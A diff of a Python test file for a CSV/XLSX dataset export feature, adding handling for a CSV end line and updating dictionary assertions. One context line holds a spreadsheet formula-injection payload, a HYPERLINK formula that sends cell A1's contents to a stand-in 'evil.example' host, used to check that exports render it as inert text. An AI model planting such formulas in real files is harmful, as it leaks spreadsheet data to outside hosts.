@@ -58,9 +58,19 @@ def body(response: Any) -> bytes:
     return bytes(response.content)
 
 
+def whole(content: bytes) -> bytes:
+    """A downloaded CSV without its end line (issue 18), which must be there when the
+    download is whole; the dictionary has none."""
+    end = exports.END_LINE.search(content)
+    if end is not None:
+        assert exports.complete(content) is not None, "the end line counts other rows"
+        return content[: end.start()]
+    return content
+
+
 def csv_rows(content: bytes) -> list[dict[str, str]]:
     assert content.startswith("\ufeff".encode())
-    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))
+    return list(csv.DictReader(io.StringIO(whole(content).decode("utf-8-sig"))))
 
 
 def records(ds: dataset.Dataset, cases: Any = None, **kwargs: Any) -> dict[str, dict[str, Any]]:
@@ -449,7 +459,8 @@ def test_the_xlsx_has_the_data_typed_and_the_dictionary(client, world, built, da
     assert formula == ("inlineStr", '=HYPERLINK("http://evil.example/?x="&A1,"klik")')
 
     dictionary = sheet_cells(archive.read("xl/worksheets/sheet2.xml").decode())
-    assert [dictionary[n]["A"][1] for n in sorted(dictionary) if n > 1] == names
+    # Every column, and the CSV's end line last (issue 18).
+    assert [dictionary[n]["A"][1] for n in sorted(dictionary) if n > 1] == [*names, "#kring-end"]
     assert dictionary[1]["A"] == ("inlineStr", "column")
 
 
@@ -477,7 +488,8 @@ def test_the_dictionary_lists_every_column(client, world):
             == f'attachment; filename="kring-{ds.slug}-woordenboek.csv"'
         )
         rows = csv_rows(body(response))
-        assert [row["column"] for row in rows] == [c.name for c in ds.columns]
+        end = ["#kring-end"]  # the CSV's end line, named last (issue 18)
+        assert [row["column"] for row in rows] == [*(c.name for c in ds.columns), *end]
         assert all(row["description"] and row["type"] for row in rows)
     circle = {
         row["column"]: row
@@ -701,7 +713,7 @@ def test_a_download_takes_the_same_queries_per_chunk(client, world, monkeypatch)
 
 def dutch_rows(content: bytes) -> list[dict[str, str]]:
     assert content.startswith("\ufeff".encode())
-    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))
+    return list(csv.DictReader(io.StringIO(whole(content).decode("utf-8-sig")), delimiter=";"))
 
 
 def as_dutch(value: str) -> str:
